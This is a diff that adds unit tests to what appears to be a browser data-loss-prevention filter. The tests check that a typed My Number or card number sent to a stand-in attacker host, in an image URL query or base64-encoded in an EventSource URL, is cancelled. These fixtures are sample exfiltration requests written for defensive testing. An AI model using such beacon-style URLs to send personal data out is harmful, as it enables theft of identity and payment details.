@@ -110,6 +110,29 @@ describe('a typed password, however it is sent, is cancelled on its way to an un
   });
 });
 
+describe('a typed My Number or card number, in a URL', () => {
+  let s = rememberSeen(emptySeenStore(), TAB, '0:mn', fingerprint('123456789018', 'my-number', ORG, salt));
+  s = rememberSeen(s, TAB, '0:cc', fingerprint('4111111111111111', 'payment-card', ORG, salt));
+  const seen = seenIndex(s, TAB, salt);
+  it.each([
+    ['an image URL', { method: 'GET', type: 'image', url: `${EVIL}/p.gif?n=123456789018` }, 'my-number'],
+    [
+      'an EventSource URL, base64',
+      { method: 'GET', type: 'other', url: `${EVIL}/e?d=${btoa('4111111111111111')}` },
+      'payment-card',
+    ],
+  ] as const)('%s → cancel', (_, r, kind) => {
+    const v = judge(r, { seen });
+    expect(v.action).toBe('cancel');
+    expect(v.sensitive).toContain(kind);
+  });
+  it('the same URL from a tab where nothing was typed passes (a number in a URL is no evidence alone)', () => {
+    expect(judge({ method: 'GET', type: 'image', url: `${EVIL}/p.gif?n=123456789018` }, { seen: null }).action).toBe(
+      'pass',
+    );
+  });
+});
+
 describe('must pass', () => {
   it('the typed password to the organisation’s own https site, unread', () => {
     expect(judge({ url: `${ORG}/login`, body: raw(JSON.stringify({ password: PASSWORD })) })).toMatchObject({
